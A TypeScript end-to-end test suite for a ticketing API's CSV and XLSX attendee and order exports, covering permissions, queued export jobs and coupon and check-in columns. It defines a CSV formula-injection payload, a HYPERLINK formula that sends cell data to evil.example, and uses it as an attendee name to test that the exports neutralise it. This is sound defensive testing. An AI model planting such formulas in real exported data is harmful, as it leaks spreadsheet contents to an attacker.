import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { Attendee } from '../src/attendees/attendee.entity';
import { User } from '../src/auth/user.entity';
import { CLOCK } from '../src/common/clock';
import { Event } from '../src/events/event.entity';
import { ExportChunk, ExportJob } from '../src/exports/export-job.entity';
import { ExportWorker } from '../src/exports/export-worker.service';
import { ExportsRepository } from '../src/exports/exports.repository';
import { Order } from '../src/orders/order.entity';
import type { Ticket } from '../src/tickets/ticket.entity';
import { attendeeFieldsColumn, parseAttendeeFields } from '../src/attendee-questions/attendee-fields';
import { Ticket as TicketEntity } from '../src/tickets/ticket.entity';
import { insertAttendeeRow } from './helpers/attendee-fixtures';
import { CART_PATH, checkout, ORDERS_PATH, PURCHASER } from './helpers/buyers';
import { createTestApp, createUser, TestApp, TestUser } from './helpers/test-app';
import { insertEvent } from './helpers/fixtures';
import { insertTicket, TestClock } from './helpers/ticketing-fixtures';

const BASE = '/cal/tickets/v1';
const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** Collects a binary body (XLSX, or CSV) into a Buffer. */
function binary(response: request.Response, callback: (error: Error | null, body: Buffer) => void): void {
  const parts: Buffer[] = [];
  response.on('data', (part: Buffer) => parts.push(part));
  response.on('end', () => callback(null, Buffer.concat(parts)));
}

function csvRows(body: Buffer | string): Array<Record<string, string>> {
  return parse<Record<string, string>>(body, { bom: true, columns: true, skip_empty_lines: true });
}

async function xlsxRows(body: Buffer, sheetName: string): Promise<{ headers: string[]; rows: ExcelJS.Row[] }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.getWorksheet(sheetName);
  if (!sheet) throw new Error(`no sheet ${sheetName}`);
  const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: ExcelJS.Row[] = [];
  sheet.eachRow((row, number) => {
    if (number > 1) rows.push(row);
  });
  return { headers, rows };
}

describe('Exports (e2e)', () => {
  const clock = new TestClock();
  let testApp: TestApp;
  let editor: TestUser;
  let authorA: TestUser;
  let authorB: TestUser;
  let subscriber: TestUser;
  let eventA: Event;
  let eventB: Event;
  let ticketA: Ticket;
  let attendeesA: Attendee[];
  let attendeeB: Attendee;

  beforeAll(async () => {
    testApp = await createTestApp({ overrides: [{ provide: CLOCK, useValue: clock }] });
    [editor, authorA, authorB, subscriber] = [
      await createUser(testApp, 'editor'),
      await createUser(testApp, 'author'),
      await createUser(testApp, 'author'),
      await createUser(testApp, 'subscriber'),
    ];
    eventA = await insertEvent(testApp.dataSource, { authorId: authorA.id });
    eventB = await insertEvent(testApp.dataSource, { authorId: authorB.id });
    ticketA = await insertTicket(testApp.dataSource, { eventId: eventA.id, name: 'Front row', price: '25.50' });
    const ticketB = await insertTicket(testApp.dataSource, { eventId: eventB.id, name: 'Balcony', price: '10.00' });
    attendeesA = [
      await insertAttendeeRow(testApp.dataSource, ticketA, { name: 'Ada Lovelace', email: 'ada@example.org', checkedIn: true }),
      await insertAttendeeRow(testApp.dataSource, ticketA, { name: INJECTION, email: '@evil.example' }),
      await insertAttendeeRow(testApp.dataSource, ticketA, { name: '-2+3', orderStatus: 'pending' }),
    ];
    attendeeB = await insertAttendeeRow(testApp.dataSource, ticketB, { name: 'Grace Hopper' });
  }, 120_000);

  afterAll(() => testApp.close());

  beforeEach(() => clock.reset());

  describe('streamed', () => {
    it('exports every attendee to an editor as CSV, one row each, with ticket, order, price and check-in', async () => {
      const response = await request(testApp.server).get(`${BASE}/attendees/export`).set('Authorization', editor.authorization).expect(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="attendees-\d{4}-\d{2}-\d{2}\.csv"$/);
      const rows = csvRows(response.text);
      expect(rows.map((row) => Number(row['Attendee ID']))).toEqual([...attendeesA.map((attendee) => attendee.id), attendeeB.id]);
      const ada = rows[0];
      expect(ada).toMatchObject({
        'Event ID': String(eventA.id),
        Event: eventA.title,
        'Ticket ID': String(ticketA.id),
        Ticket: 'Front row',
        'Order ID': String(attendeesA[0].orderId),
        'Order status': 'completed',
        'Price paid': '25.50',
        Currency: 'USD',
        'Holder name': 'Ada Lovelace',
        'Holder email': 'ada@example.org',
        'Checked in': 'yes',
        'Security code': attendeesA[0].securityCode,
      });
      expect(new Date(ada['Checked in at (UTC)']).toISOString()).toBe(ada['Checked in at (UTC)']);
      expect(rows[2]).toMatchObject({ 'Order status': 'pending', 'Checked in': 'no', 'Checked in at (UTC)': '' });
    });

    it('neutralises cells that would start a formula with a leading apostrophe', async () => {
      const response = await request(testApp.server).get(`${BASE}/attendees/export`).set('Authorization', editor.authorization).expect(200);
      const rows = csvRows(response.text);
      expect(rows[1]['Holder name']).toBe(`'${INJECTION}`);
      expect(rows[1]['Holder email']).toBe("'@evil.example");
      expect(rows[2]['Holder name']).toBe("'-2+3");
      expect(rows[1]['Purchaser name']).toBe(`'${INJECTION}`);
    });

    it("shows an author the attendees of their own events only, and applies the list's filters", async () => {
      const own = await request(testApp.server).get(`${BASE}/attendees/export`).set('Authorization', authorA.authorization).expect(200);
      expect(csvRows(own.text).map((row) => Number(row['Attendee ID']))).toEqual(attendeesA.map((attendee) => attendee.id));

      // Excluding another author's event tells nothing about it: answered.
      const excluding = await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .query({ exclude_post: eventB.id })
        .set('Authorization', authorA.authorization)
        .expect(200);
      expect(csvRows(excluding.text).map((row) => Number(row['Attendee ID']))).toEqual(attendeesA.map((attendee) => attendee.id));

      const checkedIn = await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .query({ checkedin: true, post_id: eventA.id })
        .set('Authorization', editor.authorization)
        .expect(200);
      expect(csvRows(checkedIn.text).map((row) => Number(row['Attendee ID']))).toEqual([attendeesA[0].id]);

      const pending = await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .query({ order_status: 'pending' })
        .set('Authorization', editor.authorization)
        .expect(200);
      expect(csvRows(pending.text).map((row) => Number(row['Attendee ID']))).toEqual([attendeesA[2].id]);
    });

    it('writes XLSX that reads back with exceljs: typed numbers and times, text kept as text', async () => {
      const response = await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .query({ format: 'xlsx' })
        .set('Authorization', authorA.authorization)
        .buffer(true)
        .parse(binary)
        .expect(200);
      expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(response.headers['content-disposition']).toMatch(/filename="attendees-\d{4}-\d{2}-\d{2}\.xlsx"$/);
      const { headers, rows } = await xlsxRows(response.body as Buffer, 'Attendees');
      expect(headers.slice(0, 5)).toEqual(['Attendee ID', 'Event ID', 'Event', 'Ticket ID', 'Ticket']);
      const column = (name: string) => headers.indexOf(name) + 1;
      expect(rows.map((row) => row.getCell(1).value)).toEqual(attendeesA.map((attendee) => attendee.id));
      expect(rows[0].getCell(column('Price paid')).value).toBe(25.5);
      expect(rows[0].getCell(column('Checked in at (UTC)')).value).toBeInstanceOf(Date);
      expect(rows[0].getCell(column('Checked in')).value).toBe('yes');
      // XLSX stores it as a text cell, which no spreadsheet evaluates.
      const injected = rows[1].getCell(column('Holder name'));
      expect(injected.type).toBe(ExcelJS.ValueType.String);
      expect(injected.value).toBe(INJECTION);
    });

    it('exports orders: managers all, authors those holding their attendees, filtered by status', async () => {
      const all = await request(testApp.server).get(`${BASE}/orders/export`).set('Authorization', editor.authorization).expect(200);
      expect(all.headers['content-disposition']).toMatch(/filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
      const rows = csvRows(all.text);
      expect(rows.map((row) => Number(row['Order ID']))).toEqual([...attendeesA.map((attendee) => attendee.orderId), attendeeB.orderId]);
      expect(rows[0]).toMatchObject({ Status: 'completed', Total: '25.50', Currency: 'USD', 'Attendees checked in': '1' });

      const own = await request(testApp.server).get(`${BASE}/orders/export`).set('Authorization', authorA.authorization).expect(200);
      expect(csvRows(own.text).map((row) => Number(row['Order ID']))).toEqual(attendeesA.map((attendee) => attendee.orderId));

      const pending = await request(testApp.server)
        .get(`${BASE}/orders/export`)
        .query({ status: 'pending', format: 'xlsx' })
        .set('Authorization', editor.authorization)
        .buffer(true)
        .parse(binary)
        .expect(200);
      const { rows: pendingRows } = await xlsxRows(pending.body as Buffer, 'Orders');
      expect(pendingRows.map((row) => row.getCell(1).value)).toEqual([attendeesA[2].orderId]);
    });

    it('refuses anonymous callers (401) and subscribers (403), and names bad filters (400)', async () => {
      for (const path of ['attendees/export', 'orders/export']) {
        const anonymous = await request(testApp.server).get(`${BASE}/${path}`).expect(401);
        expect(anonymous.body).toMatchObject({ code: 'rest_forbidden', data: { status: 401 } });
        const refused = await request(testApp.server).get(`${BASE}/${path}`).set('Authorization', subscriber.authorization).expect(403);
        expect(refused.body).toMatchObject({ code: 'rest_forbidden', data: { status: 403 } });
        const format = await request(testApp.server)
          .get(`${BASE}/${path}`)
          .query({ format: 'pdf' })
          .set('Authorization', editor.authorization)
          .expect(400);
        expect(format.body).toMatchObject({ code: 'rest_invalid_param', data: { status: 400, params: { format: expect.any(String) } } });
      }
      const unknownEvent = await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .query({ post_id: 999999 })
        .set('Authorization', editor.authorization)
        .expect(400);
      expect(unknownEvent.body).toMatchObject({ code: 'rest_invalid_param', data: { params: { post_id: expect.any(String) } } });
      const badStatus = await request(testApp.server)
        .get(`${BASE}/orders/export`)
        .query({ status: 'lost' })
        .set('Authorization', editor.authorization)
        .expect(400);
      expect(badStatus.body.data.params).toHaveProperty('status');
    });

    it("answers 403 rest_forbidden, as the reports do, to an export naming another author's event, streamed or queued", async () => {
      const forbidden = {
        code: 'rest_forbidden',
        message: 'Sorry, you are not allowed to export the attendees of this event.',
        data: { status: 403 },
      };
      const jobsBefore = await testApp.dataSource.getRepository(ExportJob).count();
      for (const query of [{ post_id: eventB.id }, { include_post: `${eventA.id},${eventB.id}` }, { post_id: eventB.id, format: 'xlsx' }]) {
        const streamed = await request(testApp.server)
          .get(`${BASE}/attendees/export`)
          .query(query)
          .set('Authorization', authorA.authorization);
        expect([streamed.status, streamed.body]).toEqual([403, forbidden]);
        expect(streamed.headers['content-disposition']).toBeUndefined();
        const queued = await request(testApp.server)
          .post(`${BASE}/attendees/export`)
          .query(query)
          .set('Authorization', authorA.authorization);
        expect([queued.status, queued.body]).toEqual([403, forbidden]);
      }
      expect(await testApp.dataSource.getRepository(ExportJob).count()).toBe(jobsBefore);
      // The summary report of the same event answers the same.
      const report = await request(testApp.server)
        .get(`${BASE}/reports/summary`)
        .query({ post_id: eventB.id })
        .set('Authorization', authorA.authorization);
      expect([report.status, report.body.code]).toEqual([403, 'rest_forbidden']);
      // Anonymous and subscribers are refused before the event is looked at; the event's managers are answered.
      await request(testApp.server).get(`${BASE}/attendees/export`).query({ post_id: eventB.id }).expect(401);
      await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .query({ post_id: eventB.id })
        .set('Authorization', subscriber.authorization)
        .expect(403);
      for (const manager of [authorB, editor]) {
        const answered = await request(testApp.server)
          .get(`${BASE}/attendees/export`)
          .query({ post_id: eventB.id })
          .set('Authorization', manager.authorization)
          .expect(200);
        expect(csvRows(answered.text).map((row) => Number(row['Attendee ID']))).toEqual([attendeeB.id]);
      }
    });

    it('leaves the list routes and single reads where they were', async () => {
      await request(testApp.server).get(`${BASE}/attendees/${attendeeB.id}`).set('Authorization', editor.authorization).expect(200);
      const unknown = await request(testApp.server).get(`${BASE}/attendees/exports`).set('Authorization', editor.authorization).expect(404);
      expect(unknown.body.code).toBe('rest_no_route');
    });
  });

  describe('asynchronous', () => {
    const worker = () => testApp.app.get(ExportWorker);

    it('queues a job (202), answers 409 until it is done, serves the file, then 410 once expired', async () => {
      const queued = await request(testApp.server)
        .post(`${BASE}/attendees/export`)
        .set('Authorization', authorA.authorization)
        .query({ post_id: eventA.id, format: 'csv' })
        .expect(202);
      expect(queued.body).toMatchObject({ id: expect.any(Number), kind: 'attendees', format: 'csv', status: 'queued' });
      expect(queued.headers.location).toBe(queued.body.url);
      const { id, download_url: downloadUrl } = queued.body as { id: number; download_url: string };
      const downloadPath = new URL(downloadUrl).pathname + new URL(downloadUrl).search;

      const state = await request(testApp.server).get(`${BASE}/exports/${id}`).set('Authorization', authorA.authorization).expect(200);
      expect(state.body).toMatchObject({ id, status: 'queued' });
      expect(state.body.download_url).toMatch(new RegExp(`${downloadPath.replace(/[?]/g, '\\?')}$`));
      expect(state.body).not.toHaveProperty('rows');

      const early = await request(testApp.server).get(downloadPath).expect(409);
      expect(early.body).toMatchObject({ code: 'export-not-ready', data: { status: 409 } });

      expect(await worker().runOnce()).toMatchObject({ jobId: id, status: 'done' });
      const done = await request(testApp.server).get(`${BASE}/exports/${id}`).set('Authorization', authorA.authorization).expect(200);
      expect(done.body).toMatchObject({
        status: 'done',
        rows: 3,
        size: expect.any(Number),
        completed: expect.any(String),
        expires: expect.any(String),
      });

      const file = await request(testApp.server).get(downloadPath).expect(200);
      expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(file.headers['content-disposition']).toMatch(/^attachment; filename="attendees-/);
      expect(Number(file.headers['content-length'])).toBe(done.body.size);
      const streamed = await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .query({ post_id: eventA.id })
        .set('Authorization', authorA.authorization)
        .expect(200);
      expect(csvRows(file.text)).toEqual(csvRows(streamed.text));
      expect(csvRows(file.text)[1]['Holder name']).toBe(`'${INJECTION}`);

      const forged = await request(testApp.server)
        .get(`${BASE}/exports/${id}/download`)
        .query({ token: 'x'.repeat(43) })
        .expect(404);
      expect(forged.body.code).toBe('export-not-found');

      clock.advanceMinutes(24 * 60 + 1);
      const gone = await request(testApp.server).get(downloadPath).expect(410);
      expect(gone.body).toMatchObject({ code: 'export-expired', data: { status: 410 } });
      expect((await worker().runOnce()).expired).toBe(1);
      expect(await testApp.dataSource.getRepository(ExportChunk).countBy({ jobId: id })).toBe(0);
      const expired = await request(testApp.server).get(`${BASE}/exports/${id}`).set('Authorization', authorA.authorization).expect(200);
      expect(expired.body.status).toBe('expired');
      await request(testApp.server).get(downloadPath).expect(410);
    });

    it('stores an XLSX export of orders in pieces any instance can serve', async () => {
      const queued = await request(testApp.server)
        .post(`${BASE}/orders/export`)
        .set('Authorization', editor.authorization)
        .query({ format: 'xlsx', status: 'completed' })
        .expect(202);
      expect(await worker().runOnce()).toMatchObject({ jobId: queued.body.id, status: 'done' });
      const url = new URL(queued.body.download_url as string);
      const file = await request(testApp.server)
        .get(url.pathname + url.search)
        .buffer(true)
        .parse(binary)
        .expect(200);
      const { rows } = await xlsxRows(file.body as Buffer, 'Orders');
      expect(rows.map((row) => row.getCell(1).value)).toEqual([attendeesA[0].orderId, attendeesA[1].orderId, attendeeB.orderId]);
    });

    it('shows a job to its creator only, and refuses to queue for subscribers or with bad filters', async () => {
      const queued = await request(testApp.server)
        .post(`${BASE}/orders/export`)
        .set('Authorization', authorA.authorization)
        .send({})
        .expect(202);
      expect(queued.body.format).toBe('csv');
      const path = `${BASE}/exports/${queued.body.id}`;
      expect((await request(testApp.server).get(path).expect(401)).body.code).toBe('rest_forbidden');
      expect((await request(testApp.server).get(path).set('Authorization', authorB.authorization).expect(404)).body.code).toBe(
        'export-not-found',
      );
      await request(testApp.server).get(path).set('Authorization', editor.authorization).expect(404);
      await request(testApp.server).get(`${BASE}/exports/999999`).set('Authorization', authorA.authorization).expect(404);
      const missingToken = await request(testApp.server).get(`${path}/download`).expect(400);
      expect(missingToken.body.code).toBe('rest_missing_callback_param');

      await request(testApp.server).post(`${BASE}/attendees/export`).send({}).expect(401);
      await request(testApp.server).post(`${BASE}/attendees/export`).set('Authorization', subscriber.authorization).send({}).expect(403);
      const bad = await request(testApp.server)
        .post(`${BASE}/attendees/export`)
        .set('Authorization', editor.authorization)
        .query({ include_post: '999999' })
        .expect(400);
      expect(bad.body.data.params).toHaveProperty('include_post');
      await worker().runOnce();
    });

    it('marks a job failed when its filters no longer hold, and answers 410 export-failed for its file', async () => {
      const event = await insertEvent(testApp.dataSource, { authorId: authorA.id });
      const queued = await request(testApp.server)
        .post(`${BASE}/attendees/export`)
        .set('Authorization', authorA.authorization)
        .query({ post_id: event.id })
        .expect(202);
      await testApp.dataSource.getRepository(Event).delete({ id: event.id });
      expect(await worker().runOnce()).toMatchObject({ jobId: queued.body.id, status: 'failed' });
      const state = await request(testApp.server)
        .get(`${BASE}/exports/${queued.body.id}`)
        .set('Authorization', authorA.authorization)
        .expect(200);
      expect(state.body).toMatchObject({ status: 'failed', error: expect.stringContaining('post_id') });
      const url = new URL(queued.body.download_url as string);
      expect(
        (
          await request(testApp.server)
            .get(url.pathname + url.search)
            .expect(410)
        ).body.code,
      ).toBe('export-failed');
    });

    it("runs a job with its user's role of the time: an author since made contributor exports no orders and no attendees", async () => {
      const jobs: number[] = [];
      for (const kind of ['orders', 'attendees']) {
        const queued = await request(testApp.server).post(`${BASE}/${kind}/export`).set('Authorization', authorA.authorization).expect(202);
        jobs.push(queued.body.id as number);
      }
      const users = testApp.dataSource.getRepository(User);
      await users.update({ id: authorA.id }, { role: 'contributor' });
      try {
        for (const id of jobs) expect(await worker().runOnce()).toMatchObject({ jobId: id, status: 'done' });
      } finally {
        await users.update({ id: authorA.id }, { role: 'author' });
      }
      for (const id of jobs) {
        const state = await request(testApp.server).get(`${BASE}/exports/${id}`).set('Authorization', authorA.authorization).expect(200);
        expect(state.body).toMatchObject({ status: 'done', rows: 0 });
      }
    });

    it('lets exactly one of several workers claim a job', async () => {
      const queued = await request(testApp.server)
        .post(`${BASE}/orders/export`)
        .set('Authorization', editor.authorization)
        .send({})
        .expect(202);
      const repository = testApp.app.get(ExportsRepository);
      const now = clock.now();
      const stale = new Date(now.getTime() - 60_000);
      const claims = await Promise.all(
        Array.from({ length: 6 }, (_, index) => repository.claim(queued.body.id, `claim-${index}`, now, stale)),
      );
      expect(claims.filter(Boolean)).toHaveLength(1);
      const job = await testApp.dataSource.getRepository(ExportJob).findOneByOrFail({ id: queued.body.id });
      expect(job).toMatchObject({ status: 'running', attempts: 1 });
      // A run whose worker died is taken over once its lease has passed.
      clock.advanceMinutes(31);
      expect(await worker().runOnce()).toMatchObject({ jobId: queued.body.id, status: 'done' });
      expect(await testApp.dataSource.getRepository(Order).count()).toBeGreaterThan(0);
    });
  });
  describe('coupon, check-in and question columns', () => {
    let authorC: TestUser;
    let event: Event;
    let asking: Ticket;
    let askingToo: Ticket;
    let couponOrder: { id: number; attendees: Array<{ id: number; ticket_id: number }> };
    let plainOrder: { id: number; attendees: Array<{ id: number; ticket_id: number }> };
    let gate: number;
    let vip: number;
    const DAY_1 = new Date('2026-12-05T18:00:00Z');
    const DAY_2 = new Date('2026-12-06T19:30:00Z');

    async function buy(lines: Array<{ ticket_id: number; quantity: number }>, meta: unknown[], coupon?: string) {
      const cart = await request(testApp.server)
        .post(CART_PATH)
        .send({ provider: 'tc', tickets: lines, meta, ...(coupon ? { coupon } : {}) })
        .expect(200);
      const placed = await checkout(testApp, { token: cart.headers['x-cart-token'] }, { provider: 'tc', purchaser: PURCHASER });
      if (placed.status !== 201) throw new Error(`checkout failed: ${placed.status} ${JSON.stringify(placed.body)}`);
      await request(testApp.server)
        .post(`${ORDERS_PATH}/${placed.body.id}/complete`)
        .set('Authorization', editor.authorization)
        .send({})
        .expect(200);
      return placed.body as { id: number; attendees: Array<{ id: number; ticket_id: number }> };
    }

    async function createList(name: string, ticketIds: number[]): Promise<number> {
      const response = await request(testApp.server)
        .post(`${BASE}/checkin-lists`)
        .set('Authorization', authorC.authorization)
        .send({ post_id: event.id, name, ticket_ids: ticketIds, starts_at: '2026-12-01T00:00:00Z', ends_at: '2026-12-31T00:00:00Z' })
        .expect(201);
      return response.body.id as number;
    }

    async function enter(attendeeId: number, listId: number): Promise<void> {
      const attendee = await testApp.dataSource.getRepository(Attendee).findOneByOrFail({ id: attendeeId });
      await request(testApp.server)
        .post(`${BASE}/checkin/redeem`)
        .set('Authorization', authorC.authorization)
        .send({ secret: attendee.checkinSecret, list_ids: [listId] })
        .expect(201);
    }

    const exportOf = (query: Record<string, unknown>) =>
      request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .query({ post_id: event.id, ...query })
        .set('Authorization', authorC.authorization);

    beforeAll(async () => {
      clock.set(DAY_1);
      authorC = await createUser(testApp, 'author');
      event = await insertEvent(testApp.dataSource, { authorId: authorC.id });
      asking = await insertTicket(testApp.dataSource, { eventId: event.id, name: 'Workshop', price: '40.00' });
      askingToo = await insertTicket(testApp.dataSource, { eventId: event.id, name: 'Dinner', price: '20.00' });
      const tickets = testApp.dataSource.getRepository(TicketEntity);
      await tickets.update(asking.id, {
        attendeeInformationFields: attendeeFieldsColumn(
          parseAttendeeFields([
            { type: 'text', label: 'Company' },
            { type: 'checkbox', label: 'Diet', options: ['Vegan', 'No nuts'] },
          ]),
        ),
      });
      await tickets.update(askingToo.id, {
        attendeeInformationFields: attendeeFieldsColumn(
          parseAttendeeFields([
            { type: 'text', label: 'Company name', slug: 'company' },
            { type: 'select', label: 'Table', options: ['A', 'B'] },
          ]),
        ),
      });
      const coupon = await request(testApp.server)
        .post(`${BASE}/coupons`)
        .set('Authorization', authorC.authorization)
        .send({ code: `TENOFF-${event.id}`, discount_type: 'percent', amount: 10, post_id: event.id })
        .expect(201);
      couponOrder = await buy(
        [{ ticket_id: asking.id, quantity: 2 }],
        [{ ticket_id: asking.id, items: [{ company: 'ACME', diet: ['Vegan', 'No nuts'] }, { company: INJECTION }] }],
        coupon.body.code as string,
      );
      plainOrder = await buy(
        [{ ticket_id: askingToo.id, quantity: 1 }],
        [{ ticket_id: askingToo.id, items: [{ company: 'Initech', table: 'B' }] }],
      );
      gate = await createList('Gate', []);
      vip = await createList('VIP', [asking.id]);
      await enter(couponOrder.attendees[0].id, gate);
      clock.set(DAY_2);
      await enter(couponOrder.attendees[0].id, vip);
      await enter(plainOrder.attendees[0].id, gate);
    });

    it('writes coupon, discount, check-in and one column per question (CSV)', async () => {
      const response = await exportOf({}).expect(200);
      const header = response.text.replace(/^\uFEFF/, '').split(/\r?\n/)[0];
      // Questions follow the fixed columns: one per slug, headed by the first ticket's label.
      expect(header.endsWith('Created (UTC),Company,Diet,Table')).toBe(true);
      const rows = csvRows(response.text);
      expect(rows.map((row) => Number(row['Attendee ID']))).toEqual([...couponOrder.attendees, ...plainOrder.attendees].map((a) => a.id));
      expect(rows[0]).toMatchObject({
        Ticket: 'Workshop',
        'Price paid': '36.00',
        Coupon: `TENOFF-${event.id}`,
        Discount: '4.00',
        'First check-in (UTC)': DAY_1.toISOString(),
        'Last check-in (UTC)': DAY_2.toISOString(),
        'Check-in lists': 'Gate; VIP',
        Company: 'ACME',
        Diet: 'Vegan, No nuts',
        Table: '',
      });
      expect(rows[1]).toMatchObject({
        Coupon: `TENOFF-${event.id}`,
        Discount: '4.00',
        'First check-in (UTC)': '',
        'Check-in lists': '',
        Company: `'${INJECTION}`,
        Diet: '',
      });
      expect(rows[2]).toMatchObject({
        Ticket: 'Dinner',
        Coupon: '',
        Discount: '0.00',
        'First check-in (UTC)': DAY_2.toISOString(),
        'Check-in lists': 'Gate',
        Company: 'Initech',
        Table: 'B',
      });
    });

    it('writes the same columns to XLSX, times typed', async () => {
      const response = await exportOf({ format: 'xlsx' }).buffer(true).parse(binary).expect(200);
      const { headers, rows } = await xlsxRows(response.body as Buffer, 'Attendees');
      expect(headers.slice(-3)).toEqual(['Company', 'Diet', 'Table']);
      const column = (name: string) => headers.indexOf(name) + 1;
      expect(rows).toHaveLength(3);
      expect(rows[0].getCell(column('Coupon')).value).toBe(`TENOFF-${event.id}`);
      expect(rows[0].getCell(column('Discount')).value).toBe(4);
      expect(rows[0].getCell(column('First check-in (UTC)')).value).toEqual(DAY_1);
      expect(rows[0].getCell(column('Last check-in (UTC)')).value).toEqual(DAY_2);
      expect(rows[0].getCell(column('Check-in lists')).value).toBe('Gate; VIP');
      expect(rows[0].getCell(column('Diet')).value).toBe('Vegan, No nuts');
      expect(rows[1].getCell(column('Company')).value).toBe(INJECTION);
      expect(rows[2].getCell(column('Table')).value).toBe('B');
    });

    it('asks the questions of the events in scope only, and of the events the caller manages', async () => {
      const others = await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .query({ post_id: eventA.id })
        .set('Authorization', editor.authorization)
        .expect(200);
      expect(others.text.split(/\r?\n/)[0]).not.toContain('Company');
      const authorsOwn = await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .set('Authorization', authorA.authorization)
        .expect(200);
      expect(authorsOwn.text.split(/\r?\n/)[0]).not.toContain('Diet');
      const everything = await request(testApp.server)
        .get(`${BASE}/attendees/export`)
        .set('Authorization', editor.authorization)
        .expect(200);
      expect(everything.text.split(/\r?\n/)[0]).toContain('Company,Diet,Table');
    });

    it('reads the check-in positions and list names once per page', async () => {
      const repository = testApp.app.get(ExportsRepository);
      const positions = jest.spyOn(repository, 'checkinPositions');
      const lists = jest.spyOn(repository, 'checkinListNames');
      try {
        await exportOf({}).expect(200);
        expect(positions).toHaveBeenCalledTimes(1);
        expect(lists).toHaveBeenCalledTimes(1);
      } finally {
        positions.mockRestore();
        lists.mockRestore();
      }
    });

    it('exports the coupon and discount of orders', async () => {
      const response = await request(testApp.server).get(`${BASE}/orders/export`).set('Authorization', authorC.authorization).expect(200);
      const rows = csvRows(response.text);
      expect(rows.map((row) => [Number(row['Order ID']), row.Coupon, row.Discount, row.Total])).toEqual([
        [couponOrder.id, `TENOFF-${event.id}`, '8.00', '72.00'],
        [plainOrder.id, '', '0.00', '20.00'],
      ]);
      const xlsx = await request(testApp.server)
        .get(`${BASE}/orders/export`)
        .query({ format: 'xlsx' })
        .set('Authorization', authorC.authorization)
        .buffer(true)
        .parse(binary)
        .expect(200);
      const { headers, rows: sheet } = await xlsxRows(xlsx.body as Buffer, 'Orders');
      expect(sheet[0].getCell(headers.indexOf('Discount') + 1).value).toBe(8);
      expect(sheet[0].getCell(headers.indexOf('Coupon') + 1).value).toBe(`TENOFF-${event.id}`);
    });
  });
});
